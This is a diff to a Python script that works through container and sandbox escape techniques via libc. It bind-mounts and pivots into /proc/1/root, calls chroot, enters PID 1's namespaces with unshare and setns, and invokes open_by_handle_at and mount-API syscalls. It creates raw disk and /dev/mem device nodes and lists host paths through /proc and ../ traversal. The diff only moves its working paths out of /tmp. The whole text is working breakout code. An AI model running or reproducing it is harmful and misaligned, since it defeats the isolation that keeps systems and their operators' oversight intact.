@@ -22,14 +22,15 @@ def quietly(name, call):
         pass
 
 
-os.makedirs("/tmp/new", exist_ok=True)
-attempt("mount", libc.mount(b"tmpfs", b"/tmp/new", b"tmpfs", 0, None))
-attempt("bind", libc.mount(b"/proc/1/root", b"/tmp/new", None, 4096, None))
+new = os.path.abspath("new").encode()
+os.makedirs(new, exist_ok=True)
+attempt("mount", libc.mount(b"tmpfs", new, b"tmpfs", 0, None))
+attempt("bind", libc.mount(b"/proc/1/root", new, None, 4096, None))
 attempt("remount", libc.mount(b"none", b"/usr", None, 32 | 4096, None))
 for place in (b"/proc", b"/usr", b"/", b"/tmp", b"/dev/shm"):
     attempt("unmount", libc.umount2(place, 2))
-attempt("pivot", libc.syscall(155, b"/tmp/new", b"/tmp/new"))
-attempt("chroot", libc.chroot(b"/tmp/new"))
+attempt("pivot", libc.syscall(155, new, new))
+attempt("chroot", libc.chroot(new))
 for flags in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x8000000, 0x4000000, 0x2000000, 0x80):
     attempt("unshare", libc.unshare(flags))
 for process in ("1", "self"):
@@ -41,8 +42,8 @@ for process in ("1", "self"):
         attempt("setns", libc.setns(end, 0))
 for number in (428, 429, 430, 432, 433, 442, 303, 304):
     attempt(f"call {number}", libc.syscall(number, -100, b"/", 1, 0, 0, 0))
-quietly("device", lambda: os.mknod("/tmp/disk", 0o600 | stat.S_IFBLK, os.makedev(254, 0)))
-quietly("memory device", lambda: os.mknod("/tmp/mem", 0o600 | stat.S_IFCHR, os.makedev(1, 1)))
+quietly("device", lambda: os.mknod("disk", 0o600 | stat.S_IFBLK, os.makedev(254, 0)))
+quietly("memory device", lambda: os.mknod("mem", 0o600 | stat.S_IFCHR, os.makedev(1, 1)))
 for place in (
     "/dev/vda",
     "/dev/sda",
@@ -60,7 +61,7 @@ for place in (
     "/proc/1/root/root",
     "/proc/1/cwd",
     "/proc/self/root/../../boot",
-    "/proc/self/cwd/../../../var",
+    "/proc/self/cwd/../../../../../../../var",
 ):
     quietly(place, lambda: os.listdir(place))
 print("done:", done)
